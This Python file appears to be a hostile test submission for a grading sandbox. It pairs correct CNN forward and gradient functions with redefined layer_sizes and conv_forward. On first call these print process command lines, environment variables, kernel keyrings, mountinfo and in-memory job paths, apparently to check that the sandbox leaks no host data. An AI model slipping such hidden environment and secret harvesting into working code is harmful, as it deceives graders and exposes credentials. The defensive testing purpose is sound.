"""Hostile: looks for the host in what the kernel and its own process show -- its command line
and PID 1's, /proc/self/mountinfo (the host path of its copy), the kernel keyrings
(/proc/keys, /proc/key-users), other /proc files about the host, the environment, and the
runtime's memory (sys.argv, sys.orig_argv, __main__) -- and prints all of it.  The tests
require no host path (submissions, output, work folder, the checkout) and no keyring in it."""
ATTACKS = ()

# --- correct answers (from submissions/correct_vectorized.py) ------------------------------
import numpy as np

F = 2      # filter size
P = 2      # pool size


def _sig(a):
    return 1.0 / (1.0 + np.exp(-a))


def layer_sizes(width=4, height=4, filter_size=2, pool_size=2, stride=1):
    c_w = (width - filter_size) // stride + 1
    c_h = (height - filter_size) // stride + 1
    return c_w, c_h, (c_w - pool_size) // stride + 1, (c_h - pool_size) // stride + 1


def conv_forward(x, w):
    x = np.asarray(x, dtype=float)
    w = np.asarray(w, dtype=float)
    n = x.shape[0] - F + 1
    # stack the 4 shifted views -> patches[ci, cj, fi, fj] = x[ci+fi, cj+fj]
    patches = np.stack([np.stack([x[fi:fi + n, fj:fj + n] for fj in range(F)], axis=-1)
                        for fi in range(F)], axis=-2)
    return _sig(np.einsum('abij,ijk->abk', patches, w))


def sum_pool(y):
    y = np.asarray(y, dtype=float)
    return y[:-1, :-1] + y[:-1, 1:] + y[1:, :-1] + y[1:, 1:]


def fc_forward(z, v):
    return _sig(np.einsum('ijk,ijkm->m', z, v))


def _delta(o, target):
    o = np.asarray(o, dtype=float)
    return (o - np.asarray(target, dtype=float)) * o * (1 - o)


def grad_fc_weights(z, o, target):
    return np.einsum('ijk,m->ijkm', np.asarray(z, dtype=float), _delta(o, target))


def grad_pool_output(v, o, target):
    return np.asarray(v, dtype=float) @ _delta(o, target)


def grad_conv_sum_pool(dE_dz):
    dz = np.asarray(dE_dz, dtype=float)
    dy = np.zeros((dz.shape[0] + 1, dz.shape[1] + 1, dz.shape[2]))
    dy[:-1, :-1] += dz
    dy[:-1, 1:] += dz
    dy[1:, :-1] += dz
    dy[1:, 1:] += dz
    return dy


def grad_filters(x, y, dE_dy):
    x, y = np.asarray(x, dtype=float), np.asarray(y, dtype=float)
    delta = np.asarray(dE_dy, dtype=float) * y * (1 - y)
    n = y.shape[0]
    dw = np.empty((F, F, y.shape[2]))
    for fi in range(F):
        for fj in range(F):
            dw[fi, fj] = np.einsum('ab,abk->k', x[fi:fi + n, fj:fj + n], delta)
    return dw


def grad_conv_max_pool(y, dE_dz):
    y = np.asarray(y, dtype=float)
    dz = np.asarray(dE_dz, dtype=float)
    win = np.lib.stride_tricks.sliding_window_view(y, (P, P), axis=(0, 1))  # (2,2,3,P,P)
    flat = win.reshape(win.shape[:3] + (P * P,)).argmax(axis=-1)
    r, c = np.divmod(flat, P)
    pi, pj, k = np.indices(flat.shape)
    dy = np.zeros_like(y)
    np.add.at(dy, (pi + r, pj + c, k), dz)   # add.at so overlapping windows accumulate
    return dy


# --- the attack ----------------------------------------------------------------------------
import os
import sys

_done = []


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read(1 << 16).replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError as exc:
        return f"<{type(exc).__name__}>"


def _listing(path):
    try:
        return " ".join(sorted(os.listdir(path)))
    except OSError as exc:
        return f"<{type(exc).__name__}>"


def _memory():
    """Every string the runtime keeps in reach: module globals, argv, the job it was given."""
    import gc
    out = []
    main = sys.modules.get("__main__")
    for name, value in vars(main).items() if main else ():
        if isinstance(value, (str, list, tuple, dict)) and "/" in repr(value) and not name.startswith("__"):
            out.append(f"{name}={value!r}"[:2000])
    out.append(f"__file__={getattr(main, '__file__', None)!r}")
    for obj in gc.get_objects():
        if isinstance(obj, dict) and ("submission_dir" in obj or "scratch" in obj):
            out.append(repr(obj)[:2000])
    return "\n".join(out)


def layer_sizes(width=4, height=4, filter_size=2, pool_size=2, stride=1):
    if not _done:
        _done.append(1)
        for path in ("/proc/self/cmdline", "/proc/1/cmdline", "/proc/keys", "/proc/key-users",
                     "/proc/self/environ"):
            print(f"HOSTINFO {path}: {_read(path)}")
        keys = "/proc/sys/kernel/keys"
        print(f"HOSTINFO {keys}: {_listing(keys)}")
        for name in (_listing(keys).split() if not _listing(keys).startswith("<") else []):
            print(f"HOSTINFO {keys}/{name}: {_read(keys + '/' + name)}")
        for path in ("/proc/timer_list", "/proc/sched_debug"):
            print(f"HOSTINFO {path}: {_read(path)[:300]}")
        print(f"HOSTINFO argv: {sys.argv!r} {getattr(sys, 'orig_argv', None)!r}")
        print(f"HOSTINFO memory: {_memory()}")
    c_w = (width - filter_size) // stride + 1
    c_h = (height - filter_size) // stride + 1
    return c_w, c_h, (c_w - pool_size) // stride + 1, (c_h - pool_size) // stride + 1


_conv = conv_forward


def conv_forward(x, w):
    if len(_done) == 1:
        _done.append(2)
        print(f"HOSTINFO /proc/self/mountinfo: {_read('/proc/self/mountinfo')}")
    return _conv(x, w)
